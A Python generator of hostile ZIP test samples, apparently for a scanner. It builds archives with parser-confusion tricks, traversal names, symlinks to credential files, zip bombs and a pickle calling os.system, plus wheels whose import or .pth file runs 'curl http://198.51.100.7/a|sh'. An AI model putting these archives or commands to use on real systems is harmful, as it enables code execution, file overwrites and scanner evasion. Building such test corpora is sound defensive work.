"""ZIP archives assembled field by field: every place where readers may differ, and what may be hidden there."""
import bz2
import lzma
import struct
import zlib

from assembly import Call, Name, dump
from samples import npy, torch_zip, zipped

EVIL = dump(Call(Name("posix", "system"), "echo assay"))
PLAIN = dump({"weight": [1.0, 2.0], "name": "plain"})


def deflated(data):
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return engine.compress(data) + engine.flush()


def local(name, data, method=0, flags=0, size=None, packed=None, crc=None, extra=b"", version=20):
    name = name.encode() if isinstance(name, str) else name
    crc = zlib.crc32(data) if crc is None else crc
    return struct.pack("<4sHHHHHIIIHH", b"PK\3\4", version, flags, method, 0, 0x5821, crc, len(data) if packed is None else packed,
                       len(data) if size is None else size, len(name), len(extra)) + name + extra


def central(name, data, offset, method=0, flags=0, size=None, packed=None, crc=None, extra=b"", comment=b"", attributes=0, made=20, version=20, disk=0):
    name = name.encode() if isinstance(name, str) else name
    crc = zlib.crc32(data) if crc is None else crc
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", made, version, flags, method, 0, 0x5821, crc, len(data) if packed is None else packed,
                       len(data) if size is None else size, len(name), len(extra), len(comment), disk, 0, attributes, offset) + name + extra + comment


def end(count, size, offset, comment=b"", disk=0, total=None):
    return struct.pack("<4sHHHHIIH", b"PK\5\6", disk, 0, count, count if total is None else total, size, offset, len(comment)) + comment


def archive(entries, comment=b"", prefix=b"", shift=0):
    """Entries are dicts: name, data (as stored), and options of `local` and `central` in `l`, `c` or both in `o`."""
    body, directory = prefix, b""
    for entry in entries:
        both = entry.get("o", {})
        offset = len(body) - shift
        body += local(entry.get("lname", entry["name"]), entry["data"], **both, **entry.get("l", {})) + entry["data"] + entry.get("after", b"")
        if not entry.get("hidden"):
            directory += central(entry["name"], entry["data"], offset, **both, **entry.get("c", {}))
    count = sum(not entry.get("hidden") for entry in entries)
    return body + directory + end(count & 0xFFFF, len(directory), len(body) - shift, comment)


def packed(name, data, method, squeezed, **more):
    return {"name": name, "data": squeezed, "o": {"method": method, "size": len(data), "crc": zlib.crc32(data), **more}}


def zip64(name, data):
    """One entry whose sizes and offset stand in ZIP64 records alone."""
    big = struct.pack("<HHQQ", 1, 16, len(data), len(data))
    body = local(name, data, size=0xFFFFFFFF, packed=0xFFFFFFFF, extra=big, version=45) + data
    directory = central(name, data, 0xFFFFFFFF, size=0xFFFFFFFF, packed=0xFFFFFFFF, extra=struct.pack("<HHQQQ", 1, 24, len(data), len(data), 0), version=45)
    record = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, 1, 1, len(directory), len(body))
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, len(body) + len(directory), 1)
    return body + directory + record + locator + struct.pack("<4sHHHHIIH", b"PK\5\6", 0xFFFF, 0xFFFF, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def zip64_other(data, other):
    """The classic end record and the ZIP64 one lead to different directories."""
    body = local("model/data.pkl", other) + other
    at = len(body)
    body += local("model/data.pkl", data) + data
    first, second = central("model/data.pkl", other, 0), central("model/data.pkl", data, at)
    start = len(body)
    record = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, 1, 1, len(second), start + len(first))
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, start + len(first) + len(second), 1)
    return body + first + second + record + locator + end(1, len(first), start)


def described(name, data, signature=True, wide=False, lie=False):
    """Stored with a data descriptor behind it: sizes of the local header are zero."""
    tail = (b"PK\7\x08" if signature else b"") + struct.pack("<I", zlib.crc32(data)) + struct.pack("<QQ" if wide else "<II", *([1 if lie else len(data)] * 2))
    body = local(name, data, flags=8, size=0, packed=0, crc=0) + data + tail
    directory = central(name, data, 0, flags=8)
    return body + directory + end(1, len(directory), len(body))


def unicode_path(name, shown):
    """Info-ZIP's Unicode path field: extractors use it instead of the name."""
    raw = shown.encode()
    return struct.pack("<HHBI", 0x7075, 5 + len(raw), 1, zlib.crc32(name.encode())) + raw


def strong(data):
    return struct.pack("<HHHHI", 0x0017, 8, 2, 0x6601, 128) + b""


def xz(data):
    return lzma.compress(data, lzma.FORMAT_XZ)


def build(samples):
    def add(name, data, technique, severity="critical"):
        samples.attack("zips/" + name, data, technique, severity)

    one = {"name": "archive/data.pkl", "data": EVIL}
    calm = {"name": "archive/data.pkl", "data": PLAIN}
    add("zip64.pt", zip64("archive/data.pkl", EVIL), "sizes in ZIP64 records alone")
    add("zip64_two_directories.pt", zip64_other(EVIL, PLAIN), "ZIP64 directory differs from the classic one")
    add("zip64_two_directories_reverse.pt", zip64_other(PLAIN, EVIL), "classic directory differs from the ZIP64 one")
    for signature in (True, False):
        for wide in (True, False):
            add(f"descriptor_{signature}_{wide}.pt", described("archive/data.pkl", EVIL, signature, wide), "data descriptor instead of sizes")
    add("descriptor_lie.pt", described("archive/data.pkl", EVIL, lie=True), "data descriptor with a wrong size")
    add("unicode_path.zip", archive([{"name": "readme.txt", "data": b"x", "o": {"extra": unicode_path("readme.txt", "../../../.bashrc")}}]), "Unicode path field that leaves the folder", "high")
    add("unicode_path_name.pt", archive([{"name": "archive/notes.txt", "data": EVIL, "o": {"extra": unicode_path("archive/notes.txt", "archive/data.pkl")}}]), "Unicode path field gives another name")
    add("size_smaller.pt", archive([{**one, "o": {"size": 4, "packed": 4, "crc": 0}}]), "sizes are smaller than the data", "low")
    add("size_larger.pt", archive([{**one, "o": {"size": 1 << 20, "packed": 1 << 20}}]), "sizes are larger than the file")
    add("offset_zero.pt", archive([calm, {**one, "name": "archive/data/0"}]).replace(b"zzz", b""), "second member is a pickle", "medium")
    add("prefix_unadjusted.pt", archive([one], prefix=bytes(range(1, 200)) * 3, shift=597), "offsets don't count the prefix")
    add("prefix_adjusted.pt", archive([one], prefix=b"#" * 600), "offsets count the prefix")
    add("end_comment_padded.pt", archive([one], comment=b" " * 65535), "a comment of 65,535 bytes")
    add("end_comment_longer.pt", archive([one])[:-2] + struct.pack("<H", 500), "comment length beyond the file")
    add("end_comment_shorter.pt", archive([one]) + b"trailing text", "bytes behind the end record")
    add("end_far.pt", archive([one]) + b"\n" * 70_000, "end record 70 kB before the end", "high")
    add("two_ends.pt", archive([one]) + end(0, 0, 0), "second, empty end record")
    add("count_zero.pt", archive([one])[:-22] + end(0, len(central("archive/data.pkl", EVIL, 0)), len(local("archive/data.pkl", EVIL)) + len(EVIL)), "end record counts no members")
    add("count_lower.zip", archive([{"name": "a.txt", "data": b"x"}, one])[:-22] + end(1, len(central("a.txt", b"x", 0)) + len(central(**{"name": one["name"], "data": EVIL, "offset": 0})), len(local("a.txt", b"x")) + 1 + len(local(one["name"], EVIL)) + len(EVIL)), "end record counts fewer members")
    add("disk_number.pt", archive([{**one, "c": {"disk": 3}}]), "member on another disk")
    for method, squeezed in {"bzip2": (12, bz2.compress(EVIL)), "xz": (95, xz(EVIL)), "deflate": (8, deflated(EVIL))}.items():
        add(f"method_{method}.pt", archive([packed("archive/data.pkl", EVIL, *squeezed)]), f"member compressed by {method}")
    try:
        import zstandard
        add("method_zstd.pt", archive([packed("archive/data.pkl", EVIL, 93, zstandard.compress(EVIL))]), "member compressed by zstd")
        add("method_zstd_old.pt", archive([packed("archive/data.pkl", EVIL, 20, zstandard.compress(EVIL))]), "member compressed by zstd under its first number")
    except ImportError:
        pass
    for number in [2, 3, 4, 5, 7, 10, 13, 15, 16, 17, 18, 19, 21, 94, 96, 97, 200, 65535]:
        add(f"method_{number}.pt", archive([{**one, "o": {"method": number}}]), f"stored data marked as method {number}")
    add("local_stored_central_deflate.pt", archive([{**one, "c": {"method": 8}}]), "methods differ: local stored")
    add("local_deflate_central_stored.pt", archive([{**one, "l": {"method": 8}}]), "methods differ: central stored")
    squeezed = deflated(EVIL)
    add("deflate_marked_stored.pt", archive([{"name": "archive/data.pkl", "data": squeezed}]), "deflated data marked as stored", "low")
    add("deflate_central_stored_local.pt", archive([{"name": "archive/data.pkl", "data": squeezed, "c": {"method": 8, "size": len(EVIL), "crc": zlib.crc32(EVIL)}}]), "deflated data that only the directory says is deflated")
    for flag in [1, 0x10, 0x20, 0x40, 0x80, 0x100, 0x200, 0x400, 0x1000, 0x2000, 0x4000, 0x8000, 0xFFFF]:
        add(f"flag_{flag:04x}.pt", archive([{**one, "o": {"flags": flag}}]), f"flag bits 0x{flag:x}")
    add("strong_encryption.pt", archive([{**one, "o": {"flags": 0x41, "extra": strong(EVIL)}}]), "marked as strongly encrypted", "critical")
    add("aes.zip", archive([{"name": "model.pkl", "data": bytes(range(60)), "o": {"flags": 1, "method": 99, "extra": struct.pack("<HHHHBH", 0x9901, 7, 2, 0x4541, 3, 0)}}]), "AES-encrypted member", "medium")
    add("hidden_first.zip", archive([{**one, "hidden": True}, {"name": "a.txt", "data": b"hello"}]), "first member is not in the directory")
    add("hidden_last.zip", archive([{"name": "a.txt", "data": b"hello"}, {**one, "hidden": True}]), "last member is not in the directory")
    add("hidden_inside_stored.zip", archive([{"name": "a.bin", "data": local("data.pkl", EVIL) + EVIL}]), "a member within the data of another", "medium")
    inner = archive([one])
    add("stored_zip_as_storage.pt", archive([calm, {"name": "archive/data/0", "data": inner}]), "torch zip as a storage of a torch zip", "high")
    add("shared_data.zip", _shared(), "two names for the same data")
    add("overlap_in_header.zip", _quine(), "directory points into a member's data", "medium")
    for name, technique, severity in [("../../x.py", "traversal", "high"), ("/etc/cron.d/x", "absolute", "high"), ("a\\..\\..\\x", "backslashes", "high"), ("C:x", "drive", "high"), ("\\\\host\\share\\x", "UNC path", "high"),
                                      ("..", "parent folder alone", "high"), ("./../x", "dot before traversal", "high"), ("a/../../b", "traversal inside", "high"), ("a/./../..//x", "traversal with empty parts", "high"),
                                      ("x.pkl\0.txt", "NUL in the name", "medium"), ("x\u202elkp.exe", "direction override", "medium"), ("a\nb", "line feed", "medium")]:
        add(f"name_{technique.replace(' ', '_')}.zip", archive([{"name": name.encode(), "data": b"x", "o": {"flags": 0x800}}]), f"name: {technique}", severity)
    add("name_empty.pt", archive([{"name": "", "data": EVIL}]), "member without a name")
    add("name_slash.pt", archive([{"name": "archive/data.pkl/", "data": EVIL}]), "data under the name of a folder")
    add("name_long.pt", archive([{"name": "a/" * 20000 + "data.pkl", "data": EVIL}]), "a name of 40 kB")
    add("name_case.zip", archive([{"name": "Model.pkl", "data": PLAIN}, {"name": "model.PKL", "data": EVIL}]), "names that differ in case alone")
    add("name_normal_forms.zip", archive([{"name": "mod\u00e9l.pkl".encode(), "data": PLAIN, "o": {"flags": 0x800}}, {"name": "mode\u0301l.pkl".encode(), "data": EVIL, "o": {"flags": 0x800}}]), "names that differ in their normal form alone")
    add("name_differs_local.zip", archive([{"name": "a.txt", "lname": "../../a.py", "data": b"x"}]), "only the local name leaves the folder", "high")
    add("symlink_absolute.zip", archive([{"name": "weights.bin", "data": b"/etc/passwd", "c": {"made": 0x314, "attributes": 0xA1FF << 16}}]), "absolute symbolic link", "high")
    add("symlink_deflated.zip", archive([{**packed("weights.bin", b"../../../etc/shadow", 8, deflated(b"../../../etc/shadow")), "c": {"made": 0x314, "attributes": 0xA1FF << 16}}]), "deflated symbolic link", "high")
    add("symlink_then_write.zip", archive([{"name": "out", "data": b"/tmp", "c": {"made": 0x314, "attributes": 0xA1FF << 16}}, {"name": "out/run.sh", "data": b"#!/bin/sh\n"}]), "link, then a member behind it", "high")
    add("device.zip", archive([{"name": "null", "data": b"", "c": {"made": 0x314, "attributes": 0x21FF << 16}}]), "device", "medium")
    add("setuid.zip", archive([{"name": "run", "data": b"#!/bin/sh\nid\n", "c": {"made": 0x314, "attributes": 0x89ED << 16}}]), "set-user-ID script", "medium")
    add("bomb_overlap.zip", _overlapping(300), "members that share one compressed kernel (Fifield)", "medium")
    add("bomb_declared.zip", archive([{**packed("a", b"", 8, deflated(b"")), "o": {"method": 8, "size": 0xFFFFFFFE, "packed": 2, "crc": 0}}] * 40), "claims 160 GiB", "medium")
    add("bomb_bzip2.zip", archive([packed("a", b"", 12, bz2.compress(bytes(1 << 26)))]), "bzip2 bomb as a member", "medium")
    add("bomb_xz.zip", archive([packed("a", b"", 95, xz(bytes(1 << 26)))]), "xz bomb as a member", "medium")
    add("bomb_nested.zip", _nested_bomb(), "zips in zips, sixteen to each", "medium")
    add("spanned_marker.pt", b"PK00" + archive([one], shift=0, prefix=b""), "marker of a spanned archive")
    add("split_signature.pt", b"PK\7\x08" + archive([one], shift=-4), "signature of a split archive")
    add("npz_hidden_object.npz", archive([{"name": "a.npy", "data": npy(data=bytes(16), dtype="<f4", shape=(4,))}, {"name": "b.npy", "data": npy(EVIL), "hidden": True}]), "object array that the directory does not list")
    add("npz_upper.NPZ", zipped([("A.NPY", npy(EVIL))]), "upper-case names")
    add("local_only_no_directory.zip", local("data.pkl", EVIL) + EVIL, "local header without a directory")
    add("directory_encrypted.zip", archive([{**one, "o": {"flags": 0x2000}}]), "masked header fields")
    add("deep_torch.zip", _deep(torch_zip(EVIL), 6), "torch zip six zips deep")
    add("extra_lie.pt", archive([{**one, "o": {"extra": struct.pack("<HH", 0x7075, 60000)}}]), "an extra field longer than its place")
    add("comment_zip.zip", archive([{"name": "a.txt", "data": b"hello"}], comment=archive([one])), "a zip in the comment", "high")
    add("comment_member_zip.zip", archive([{"name": "a.txt", "data": b"hello", "c": {"comment": EVIL}}]), "a pickle in a member's comment", "medium")
    add("gap_pickle.zip", archive([{"name": "a.txt", "data": b"hello", "after": EVIL}, {"name": "b.txt", "data": b"world"}]), "a pickle between members", "high")
    add("gap_before_directory.zip", archive([{"name": "a.txt", "data": b"hello", "after": bytes(64) + EVIL}]), "a pickle before the directory", "medium")
    add("concatenated_three.bin", archive([calm]) + archive([one]) + archive([calm]), "the second of three archives")
    add("jar_torch.jar", archive([{"name": "META-INF/MANIFEST.MF", "data": b"Manifest-Version: 1.0\n"}, {"name": "model.pt", "data": torch_zip(EVIL)}]), "torch zip in a jar")
    add("apk.zip", archive([{"name": "AndroidManifest.xml", "data": b"\3\0\x08\0"}, {"name": "assets/model.pkl", "data": EVIL}]), "pickle among an app's assets")
    add("whl.whl", zipped([("m/__init__.py", b"import os\nos.system('curl http://198.51.100.7/a|sh')\n"), ("m-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"), ("m-1.0.dist-info/METADATA", b"Name: m\n"), ("m-1.0.dist-info/RECORD", b"")]), "wheel whose package runs a command when imported", "high")
    add("pth_file.whl", zipped([("evil.pth", b"import os; os.system('curl http://198.51.100.7/a|sh')\n"), ("m-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"), ("m-1.0.dist-info/METADATA", b"Name: m\n")]), "wheel with a path file that runs code at every start of Python", "high")
    add("xlsx_pickle.xlsx", zipped([("[Content_Types].xml", b"<Types/>"), ("xl/embeddings/o.bin", EVIL)]), "pickle in a workbook")


def _shared():
    body = local("a.pkl", EVIL) + EVIL
    directory = central("a.pkl", EVIL, 0) + central("b.txt", EVIL, 0)
    return body + directory + end(2, len(directory), len(body))


def _quine():
    data = local("inner.pkl", EVIL) + EVIL
    body = local("outer.bin", data) + data
    directory = central("outer.bin", data, 0) + central("inner.pkl", EVIL, len(local("outer.bin", data)))
    return body + directory + end(2, len(directory), len(body))


def _overlapping(count):
    kernel = deflated(bytes(1 << 21))
    names = [f"{number:05}" for number in range(count)]
    headers = [local(name, b"", method=8, size=1 << 21, packed=len(kernel), crc=0) for name in names]
    body = b"".join(headers) + kernel
    directory, offset = b"", 0
    for name, header in zip(names, headers):
        directory += central(name, b"", offset, method=8, size=1 << 21, packed=len(body) - offset - len(header), crc=0)
        offset += len(header)
    return body + directory + end(count, len(directory), len(body))


def _nested_bomb():
    data = bytes(1 << 22)
    inner = archive([packed("0", data, 8, deflated(data))])
    for _ in range(4):
        inner = archive([packed(f"{number}.zip", inner, 8, deflated(inner)) for number in range(16)])
    return inner


def _deep(data, levels):
    for level in range(levels):
        data = zipped([(f"level{level}/inner.zip", data)])
    return data
